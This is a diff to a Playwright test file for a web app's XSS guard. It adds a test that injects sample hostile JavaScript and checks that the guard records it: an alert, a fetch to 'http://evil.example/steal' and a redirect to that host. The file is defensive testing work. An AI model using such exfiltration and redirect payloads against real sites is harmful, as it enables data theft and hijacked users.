@@ -68,9 +68,9 @@ class Guard:
             or url.startswith(("data:", "about:"))
         )
 
-    async def _dialog(self, dialog: Any) -> None:
+    def _dialog(self, dialog: Any) -> None:
+        # Recorded only: the `page` fixture dismisses every dialog (and fails on it too).
         self.problems.append(f"dialog {dialog.type}: {dialog.message}")
-        await dialog.dismiss()
 
     def _navigated(self, frame: Any) -> None:
         if frame == self.page.main_frame and not self._local(frame.url):
@@ -162,3 +162,22 @@ async def test_the_xss_corpus_executes_nothing(
         await page.goto(f"{live_server.url}/tickets/{tn}/reply")
         await page.wait_for_load_state("networkidle")
         assert guard.problems == [], (tn, guard.problems)
+
+
+async def test_the_guard_sees_what_it_guards_against(page: Page, live_server: Any) -> None:
+    guard = Guard(page, live_server.url)
+    await guard.install()
+    await page.goto(f"{live_server.url}/login")
+    await page.evaluate("alert('x')")
+    await page.evaluate("console.log('hello')")
+    await page.evaluate("fetch('http://evil.example/steal').catch(() => null)")
+    await page.evaluate("location.href = 'http://evil.example/'")
+    await page.wait_for_timeout(300)
+    seen = " | ".join(guard.problems)
+    # The site's CSP stops the fetch before it leaves (and says so on the console); the
+    # navigation is a request the guard aborts.
+    for wanted in ("dialog alert: x", "console log: hello",
+                   "console error: Connecting to 'http://evil.example/steal' violates",
+                   "request to http://evil.example/", "navigated to "):  # fmt: skip
+        assert wanted in seen, seen
+    page.problems.clear()  # type: ignore[attr-defined]  # expected here, not a failure
